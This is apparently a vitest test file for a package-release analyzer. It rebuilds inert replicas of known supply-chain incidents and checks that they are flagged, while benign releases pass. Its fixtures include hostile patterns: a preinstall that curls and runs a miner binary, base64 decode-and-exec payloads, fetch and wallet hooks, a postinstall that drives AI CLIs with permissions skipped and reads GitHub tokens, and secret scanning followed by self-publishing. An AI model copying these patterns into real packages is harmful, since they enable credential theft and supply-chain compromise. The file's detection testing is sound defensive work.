import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeRelease, type AnalysisResult } from '../../src/analyzer/index.js';
import { tempDir } from '../helpers/temp-dir.js';
import { buildCase, npm, sdist, wheel, type RuleCase } from './build-artifacts.js';
import { npmBase, npmNext, plainModule, sdistBase, wheelBase, wheelNext } from './cases/common.js';

// Faithful but harmless replicas of real incidents: hosts under .invalid, payloads that print.
let dir: { dir: string; remove: () => Promise<void> };
let n = 0;
beforeAll(async () => {
  dir = await tempDir('airlock-analyzer-incidents-');
});
afterAll(() => dir.remove());

async function analyze(c: Omit<RuleCase, 'name'>): Promise<AnalysisResult> {
  const s = await buildCase(path.join(dir.dir, String(n++)), { name: '', ...c });
  return analyzeRelease({ ecosystem: c.ecosystem, ...(s.previous ? { previous: s.previous } : {}), candidate: s.candidate, ...(c.previousMeta ? { previousMeta: c.previousMeta } : {}), ...(c.candidateMeta ? { candidateMeta: c.candidateMeta } : {}) });
}
const kinds = (r: AnalysisResult) => r.findings.map((f) => f.kind);

describe('incident replicas', () => {
  it('holds litellm 1.82.7 for review: a base64 payload exec’d in proxy/proxy_server.py, in the sdist and the wheel', async () => {
    const proxy = 'import httpx\n\n\nasync def handle(req):\n    return await httpx.AsyncClient().post(req.url)\n';
    const payload = proxy + '\nimport base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBwcmludCgnaW5lcnQgcmVwbGljYScp"))\n';
    const files = (p: string) => ({ 'litellm/__init__.py': plainModule, 'litellm/proxy/proxy_server.py': p });
    const result = await analyze({
      ecosystem: 'pypi',
      previous: [sdist('1.82.6', { ...files(proxy), 'setup.py': 'from setuptools import setup\nsetup()\n' }, { name: 'litellm' }), wheel('1.82.6', files(proxy), { name: 'litellm' })],
      candidate: [sdist('1.82.7', { ...files(payload), 'setup.py': 'from setuptools import setup\nsetup()\n' }, { name: 'litellm' }), wheel('1.82.7', files(payload), { name: 'litellm' })],
    });
    expect(result.verdict).toBe('review');
    const decode = result.findings.filter((f) => f.kind === 'decode-exec');
    expect(decode).toHaveLength(1); // the sdist and the wheel name the same file once
    expect(decode[0]).toMatchObject({ severity: 'critical', path: 'litellm/proxy/proxy_server.py', line: 8 });
    expect(decode[0]!.message).toContain('proxy_server.py');
    expect(decode[0]!.evidence).toContain('b64decode');
  });

  it('holds litellm 1.82.8 for review: litellm_init.pth runs a payload at every interpreter start', async () => {
    const pth = 'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"], stdout=subprocess.DEVNULL)\n';
    const result = await analyze({ ecosystem: 'pypi', previous: [wheel('1.82.7', { 'litellm/__init__.py': plainModule }, { name: 'litellm' })], candidate: [wheel('1.82.8', { 'litellm/__init__.py': plainModule, 'litellm_init.pth': pth }, { name: 'litellm' })] });
    expect(result.verdict).toBe('review');
    expect(result.findings.find((f) => f.kind === 'pth-exec-added')).toMatchObject({ severity: 'critical', path: 'litellm_init.pth', line: 1 });
    expect(kinds(result)).toEqual(expect.arrayContaining(['decode-exec', 'process-spawn-added']));
  });

  it('holds ua-parser-js 0.7.29 for review: a preinstall running preinstall.js/.sh/.bat', async () => {
    const result = await analyze({
      ecosystem: 'npm',
      previous: [npm('0.7.28', { 'src/ua-parser.js': '(function (w) { w.UAParser = function () {}; })(this);\n' }, {}, 'ua-parser-js')],
      candidate: [
        npm('0.7.29', {
          'src/ua-parser.js': '(function (w) { w.UAParser = function () {}; })(this);\n',
          'preinstall.js': "const { exec } = require('child_process');\nconst os = require('os');\nif (os.type() === 'Linux') exec('bash preinstall.sh');\nelse if (os.type() === 'Windows_NT') exec('preinstall.bat');\n",
          'preinstall.sh': '#!/bin/sh\ncurl -s http://159.148.186.228/download/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -o pool.minexmr.invalid:443 &\n',
          'preinstall.bat': '@echo off\ncurl http://159.148.186.228/download/jsextension.exe -o jsextension.exe\njsextension.exe -o pool.minexmr.invalid:443\n',
        }, { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }, 'ua-parser-js'),
      ],
    });
    expect(result.verdict).toBe('review');
    expect(result.findings.find((f) => f.kind === 'install-script-added')).toMatchObject({ severity: 'critical', path: 'package.json' });
    expect(result.findings.filter((f) => f.kind === 'network-endpoint-added').map((f) => f.severity)).toContain('high');
  });

  it('holds chalk/debug 2025 for review: one obfuscated line hooking fetch and window.ethereum', async () => {
    const names = Array.from({ length: 10 }, (_, i) => `_0x${(0x4f2a + i).toString(16)}`);
    const line = `const ${names.join('=0,')}=0;(function(){if(typeof window=='undefined')return;const ${names[0]}=window['fet'+'ch'];window['fetch']=async function(...${names[1]}){return ${names[0]}.apply(this,${names[1]});};const ${names[2]}=window.ethereum;if(${names[2]}){const ${names[3]}=${names[2]}.request;window.ethereum.request=async function(${names[4]}){return ${names[3]}.call(this,${names[4]});};}})();`;
    const index = "'use strict';\nmodule.exports = function chalk(s) { return s; };\n";
    const result = await analyze({ ecosystem: 'npm', previous: [npm('5.6.0', { 'index.js': index }, {}, 'chalk')], candidate: [npm('5.6.1', { 'index.js': index + line + '\n' }, {}, 'chalk')] });
    expect(result.verdict).toBe('review');
    const hooks = result.findings.filter((f) => f.kind === 'browser-hook-added');
    expect(hooks.map((f) => f.message).join(' ')).toMatch(/fetch/);
    expect(hooks.map((f) => f.message).join(' ')).toMatch(/ethereum/);
    expect(result.findings.find((f) => f.kind === 'obfuscation-added')).toMatchObject({ path: 'index.js', line: 3 });
  });

  it('holds nx 2025 for review: a postinstall telemetry script that runs AI CLIs and reads `gh auth token`', async () => {
    const telemetry = "const { spawnSync } = require('child_process');\nconst os = require('os');\nconst out = [];\nfor (const cli of ['claude', 'gemini', 'q']) {\n  out.push(spawnSync(cli, ['--dangerously-skip-permissions', '-p', 'list wallets'], { encoding: 'utf8' }).stdout);\n}\nout.push(spawnSync('gh', ['auth', 'token']).stdout);\nconst token = require('child_process').execSync('gh auth token').toString();\n";
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'telemetry.js': telemetry }, { scripts: { postinstall: 'node telemetry.js' } })] });
    expect(result.verdict).toBe('review');
    expect(kinds(result)).toEqual(expect.arrayContaining(['install-script-added', 'secret-access-added']));
    expect(result.findings.find((f) => f.kind === 'secret-access-added')).toMatchObject({ path: 'telemetry.js', line: 8 });
  });

  it('holds Shai-Hulud for review: a postinstall bundle.js that publishes packages and scans for secrets', async () => {
    const bundle = "const { execSync } = require('child_process');\nexecSync('trufflehog filesystem / --json > /tmp/t.json');\nconst t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nexecSync('npm publish --access public', { cwd: '/tmp/pkg' });\n";
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'bundle.js': bundle }, { scripts: { postinstall: 'node bundle.js' } })] });
    expect(result.verdict).toBe('review');
    expect(result.findings.find((f) => f.kind === 'self-publish')).toMatchObject({ severity: 'critical', path: 'bundle.js', line: 4 });
    expect(kinds(result)).toEqual(expect.arrayContaining(['install-script-added', 'secret-access-added']));
  });

  it('shows axios 2026 as only a new dependency, and holds that dependency’s first release for its decode-exec postinstall', async () => {
    const axios = await analyze({
      ecosystem: 'npm',
      previous: [npm('1.14.0', { 'index.js': "module.exports = require('./lib/axios');\n", 'lib/axios.js': "const http = require('http');\nmodule.exports = http;\n" }, { dependencies: { 'follow-redirects': '^1.15.6' } }, 'axios')],
      candidate: [npm('1.14.1', { 'index.js': "module.exports = require('./lib/axios');\n", 'lib/axios.js': "const http = require('http');\nmodule.exports = http;\n" }, { dependencies: { 'follow-redirects': '^1.15.6', 'plain-crypto-js': '^4.2.1' } }, 'axios')],
      previousMeta: { publisher: 'jasonsaayman', hasProvenance: true },
      candidateMeta: { publisher: 'jasonsaayman', hasProvenance: false },
    });
    expect(axios.findings.find((f) => f.kind === 'dependency-added')).toMatchObject({ severity: 'low', path: 'package.json' });
    expect(axios.findings.find((f) => f.kind === 'dependency-added')!.message).toContain('plain-crypto-js');
    expect(kinds(axios)).toContain('provenance-dropped');

    const setup = "const s = 'Y29uc29sZS5sb2coImluZXJ0IHJlcGxpY2EiKQ==';\nconst o = Buffer.from(s, 'base64').toString();\nnew Function(o)();\n";
    const dependency = await analyze({ ecosystem: 'npm', candidate: [npm('4.2.1', { 'setup.js': setup }, { scripts: { postinstall: 'node setup.js' } }, 'plain-crypto-js')] });
    expect(dependency.verdict).toBe('review');
    expect(kinds(dependency)).toEqual(expect.arrayContaining(['new-package', 'install-script-added', 'decode-exec']));
  });

  it('holds TanStack 2026 for review: a github: optional dependency', async () => {
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({}, { optionalDependencies: { '@tanstack/setup': 'github:tanstack-helper/setup#6f1c2e0' } })] });
    expect(result.verdict).toBe('review');
    expect(result.findings.find((f) => f.kind === 'dependency-nonregistry')).toMatchObject({ severity: 'critical', path: 'package.json' });
  });

  it('holds "Phantom Gyp" for review: binding.gyp runs <!(node index.js)', async () => {
    const gyp = "{ 'targets': [{ 'target_name': 'a', 'sources': ['a.cc'], 'include_dirs': ['<!(node index.js)'] }] }\n";
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'binding.gyp': gyp, 'a.cc': '' })] });
    expect(result.verdict).toBe('review');
    expect(result.findings.find((f) => f.kind === 'gyp-command')).toMatchObject({ severity: 'critical', path: 'binding.gyp', line: 1 });
    expect(kinds(result)).toContain('native-build-added');
  });
});

describe('false-positive traps pass quietly', () => {
  const elf = (fill: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60, fill)]);
  const traps: Array<[string, Omit<RuleCase, 'name'>]> = [
    ['esbuild: the postinstall that was always there, with a new version in install.js', { ecosystem: 'npm', previous: [npm('0.25.0', { 'install.js': "const fs = require('fs');\nconst cp = require('child_process');\nconst v = '0.25.0';\ncp.execFileSync(process.execPath, ['bin/esbuild', '--version']);\n" }, { scripts: { postinstall: 'node install.js' }, optionalDependencies: { '@esbuild/linux-x64': '0.25.0', '@esbuild/darwin-arm64': '0.25.0' } }, 'esbuild')], candidate: [npm('0.25.1', { 'install.js': "const fs = require('fs');\nconst cp = require('child_process');\nconst v = '0.25.1';\ncp.execFileSync(process.execPath, ['bin/esbuild', '--version']);\n" }, { scripts: { postinstall: 'node install.js' }, optionalDependencies: { '@esbuild/linux-x64': '0.25.1', '@esbuild/darwin-arm64': '0.25.1' } }, 'esbuild')] }],
    ['sharp: install script and prebuilt binaries as before', { ecosystem: 'npm', previous: [npm('0.33.4', { 'install/check.js': "require('child_process').spawnSync('node-gyp', ['rebuild']);\n", 'lib/sharp.node': elf(1) }, { scripts: { install: 'node install/check' } }, 'sharp')], candidate: [npm('0.33.5', { 'install/check.js': "require('child_process').spawnSync('node-gyp', ['rebuild']);\n// 0.33.5\n", 'lib/sharp.node': elf(2) }, { scripts: { install: 'node install/check' } }, 'sharp')] }],
    ['puppeteer: the postinstall downloading browsers, as before', { ecosystem: 'npm', previous: [npm('24.1.0', { 'install.mjs': "import https from 'node:https';\nhttps.get('https://storage.googleapis.com/chrome-for-testing-public/131/linux64.zip');\n" }, { scripts: { postinstall: 'node install.mjs' } }, 'puppeteer')], candidate: [npm('24.1.1', { 'install.mjs': "import https from 'node:https';\nhttps.get('https://storage.googleapis.com/chrome-for-testing-public/132/linux64.zip');\n" }, { scripts: { postinstall: 'node install.mjs' } }, 'puppeteer')] }],
    ['setuptools’ distutils-precedence.pth and a new -nspkg.pth', { ecosystem: 'pypi', previous: [wheelBase({ 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n" })], candidate: [wheelNext({ 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n", 'demo-nspkg.pth': "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo', types.ModuleType('demo'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n" })] }],
    ['a move from setuptools to hatchling (medium at most)', { ecosystem: 'pypi', previous: [sdistBase({ 'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n' })], candidate: [sdist('1.0.1', { 'demo_py/__init__.py': plainModule, 'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n' })] }],
    ['a requests-like library adding a module that uses the network', { ecosystem: 'pypi', previous: [wheelBase({ 'demo_py/api.py': 'import urllib3\n\n\ndef get(u):\n    return urllib3.request("GET", u)\n' })], candidate: [wheelNext({ 'demo_py/api.py': 'import urllib3\n\n\ndef get(u):\n    return urllib3.request("GET", u)\n', 'demo_py/adapters.py': 'import socket\nimport urllib3\n\n\ndef pool():\n    return urllib3.PoolManager()\n' })] }],
  ];
  it.each(traps)('%s', async (_name, c) => {
    const result = await analyze(c);
    expect(result.findings.filter((f) => f.severity === 'critical' || f.severity === 'high')).toEqual([]);
    expect(result.verdict).toBe('clean');
  });

  it('reports a well-known build backend move as medium, not high', async () => {
    const result = await analyze(traps[4]![1]);
    expect(result.findings).toEqual([expect.objectContaining({ kind: 'build-backend-changed', severity: 'medium' })]);
  });
});
